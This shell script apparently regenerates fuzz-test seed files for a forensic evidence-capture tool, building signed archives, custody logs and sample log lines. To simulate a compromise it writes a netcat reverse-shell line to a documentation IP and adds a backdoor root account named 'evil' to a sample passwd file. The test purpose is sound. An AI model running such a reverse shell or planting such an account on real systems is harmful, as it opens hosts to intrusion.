#!/bin/sh
# Regenerate the committed seed inputs of the fuzz targets (fuzz/seeds/).
# Needs the exhibit binary (EXHIBIT, default target/debug/exhibit) and
# ssh-keygen. The seeds are small real inputs: an evidence archive with its
# signed custody log and allowed_signers, and a few real lines of every log
# format (from tests/data/logs and the parsers' tests). See docs/fuzzing.md.
#
# fuzz/src/harness.rs embeds seeds/archive_verify/sample.zip,
# seeds/custody_log/signed.custody.jsonl and
# seeds/allowed_signers/allowed_signers; regenerate them together.
set -eu
cd "$(dirname "$0")/.."
root=$(pwd)
exhibit=${EXHIBIT:-$root/target/debug/exhibit}
seeds=$root/fuzz/seeds
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export SSH_AUTH_SOCK=
unset EXHIBIT_KEY_PASSPHRASE

# --- An archive, its custody log and allowed_signers ----------------------
ssh-keygen -q -t ed25519 -C ann -N "" -f "$work/ann"
ssh-keygen -q -t ed25519 -C bob -N "" -f "$work/bob"
mkdir -p "$work/src/log"
printf 'root:x:0:0:root:/root:/bin/sh\n' >"$work/src/passwd"
printf 'Nov 22 10:00:00 web sshd[42]: Accepted password for root from 10.0.0.9 port 2222 ssh2\n' >"$work/src/log/auth.log"
"$exhibit" capture "$work/src" -o "$work/out" --case FUZZ-1 --examiner Ann -q --json \
    --sign "$work/ann" >/dev/null
zip=$(ls "$work/out"/*.zip)
log=${zip%.zip}.custody.jsonl
"$exhibit" custody add "$zip" --action transferred --actor Ann --from Ann \
    --to Bob --medium "USB disk" --sign "$work/ann" >/dev/null
"$exhibit" custody add "$zip" --action received --actor Bob --from Ann \
    --sign "$work/bob" >/dev/null
# A second capture with a changed and an added file, for the diff.
printf 'root:x:0:0:root:/root:/bin/sh\nevil:x:0:0::/root:/bin/sh\n' >"$work/src/passwd"
printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n' >"$work/src/log/x.sh"
"$exhibit" capture "$work/src" -o "$work/out2" --case FUZZ-1 --examiner Ann -q --json >/dev/null
zip2=$(ls "$work/out2"/*.zip)

mkdir -p "$seeds/archive_verify" "$seeds/snapshot" "$seeds/snapshot_stream" "$seeds/custody_log" "$seeds/allowed_signers"
cp "$zip" "$seeds/archive_verify/sample.zip"
cp "$zip" "$seeds/snapshot/sample.zip"
cp "$zip2" "$seeds/snapshot/changed.zip"
cp "$zip2" "$seeds/snapshot_stream/changed.zip"
cp "$log" "$seeds/custody_log/signed.custody.jsonl"
ann=$(cat "$work/ann.pub")
bob=$(cat "$work/bob.pub")
printf 'ann@example.org %s\nbob@example.org namespaces="exhibit-custody" %s\n' "$ann" "$bob" \
    >"$seeds/allowed_signers/allowed_signers"
printf '# options\n*@example.org,!mallory@example.org valid-after="20200101",valid-before="20991231Z" %s\nbob@example.org namespaces="!exhibit-custody,git" %s\n' "$ann" "$bob" \
    >"$seeds/allowed_signers/options"
printf 'ann@example.org cert-authority %s\n"bob@example.org" namespaces="*" %s\n' "$ann" "$bob" \
    >"$seeds/allowed_signers/ca-and-quotes"

# --- Log lines (log_parsers, log_detect): byte 0 picks the format, byte 1 --
# --- the file name and zone ------------------------------------------------
# Formats in registry order: syslog 0, access 1, web_error 2, auditd 3,
# dpkg 4, apt_history 5, shell_history 6, vsftpd 7, postgresql 8,
# journald_json 9, utmp 10, journal 11, 12 = sniff. Names (harness NAMES): auth.log 0,
# access.log 1, error.log 2, audit.log 3, dpkg.log 4, history.log 5,
# .bash_history 6, .zsh_history 7, vsftpd.log 8, postgresql.log 9,
# journal.json 10, wtmp 11, btmp 12, messages.1 13. High nibble 0xf: no --tz.
d=$seeds/log_parsers
mkdir -p "$d"
data=$root/tests/data/logs
seed() { # NAME FORMAT NAMEBYTE FILE [LINES]
    out=$d/$1
    printf "\\$(printf %o "$2")\\$(printf %o "$3")" >"$out"
    if [ -n "${5:-}" ]; then head -n "$5" "$4" >>"$out"; else cat "$4" >>"$out"; fi
}
text() { # FILE CONTENT
    printf '%s\n' "$2" >"$work/$1"
    echo "$work/$1"
}
seed syslog 0 240 "$data/syslog_syslog_ssh.log"
seed syslog-rfc5424 0 253 "$data/syslog_syslog_rsyslog_SyslogProtocol23Format"
seed secure-sniffed 12 240 "$data/secrepo_auth.log_3000" 12
seed access 1 241 "$data/apache_access.log" 8
seed access-sniffed-tz-max 12 1 "$data/elastic_apache_logs_1000" 5
seed web_error 2 242 "$(text e.log '[Sun Dec 04 05:15:09 2005] [error] [client 222.166.160.184] Directory index forbidden by rule: /var/www/html/
[Sat Jul 20 21:34:49.453232 2013] [access_compat:error] [pid 17512:tid 140123104306944] [client 127.0.0.1:51380] AH01797: client denied by server configuration: /var/www/html/noentry/cant_get_me.html
2026/11/22 10:00:00 [error] 1234#0: *5 open() "/usr/share/nginx/html/.env" failed (2: No such file or directory), client: 203.0.113.9, server: _, request: "GET /.env HTTP/1.1", host: "x"')"
seed auditd 3 243 "$data/audit_enriched.log" 12
seed auditd-overflow 3 243 "$(text a.log 'type=USER_AUTH msg=audit(99999999999999999.123:1): pid=1 uid=0 res=failed')"
seed dpkg 4 244 "$data/dpkg.log"
seed apt 5 245 "$data/apt_history.log" 20
seed bash_history 6 246 "$data/bash_history"
seed zsh_history 6 247 "$data/zsh_extended_history.txt"
seed zsh-overflow 6 247 "$(text z ': 14589914589932970:0;cmd
: 1700000000:0;echo a\
b')"
seed vsftpd 7 248 "$(text v.log 'Sun Nov 22 10:01:02 2026 [pid 4321] [alice] FAIL LOGIN: Client "203.0.113.9"
Sun Nov 22 10:02:00 2026 [pid 4324] [alice] OK DOWNLOAD: Client "203.0.113.9", "/srv/ftp/export/customers.csv", 73400320 bytes, 9512.33Kbyte/sec')"
seed postgres 8 249 "$(text p.log '2026-11-22 10:00:00.123 UTC [1234] LOG:  database system is ready to accept connections
2026-11-22 10:00:05.456 UTC [1240] postgres@shop FATAL:  password authentication failed for user "postgres"
2026-11-22 10:01:02.401 UTC,"postgres","postgres",4242,"203.0.113.5:51234",65a1.1092,1,"authentication",2026-11-22 10:01:02 UTC,3/1,0,FATAL,28P01,"password authentication failed for user ""postgres""","Connection matched pg_hba.conf line 99",,,,,,,,,"","client backend",,0')"
seed journald 9 250 "$(text j.json '{"__REALTIME_TIMESTAMP":"1763805662123456","_HOSTNAME":"web","SYSLOG_IDENTIFIER":"sshd","_PID":"42","MESSAGE":"Failed password for root from 203.0.113.9 port 50000 ssh2"}
{"__REALTIME_TIMESTAMP":"99999999999999999999","MESSAGE":[104,105]}')"
seed wtmp 10 251 "$data/utmp_wtmp.1"
seed btmp-corrupt 10 252 "$data/utmp_utmp_corrupted"
# A binary systemd journal written by systemd-journal-remote, gzipped (it
# is 8 MiB of mostly zeros): forced, and sniffed.
seed journal-gz 11 240 "$data/journal/system.journal.gz"
seed journal-gz-sniffed 12 240 "$data/journal/regular.journal.gz"
gzip -9n <"$data/dpkg.log" >"$work/dpkg.log.gz"
seed dpkg-gzip-tz-min 12 20 "$work/dpkg.log.gz"
# log_detect reads the same input layout.
rm -rf "$seeds/log_detect"
cp -r "$d" "$seeds/log_detect"
ls -l "$seeds"/*
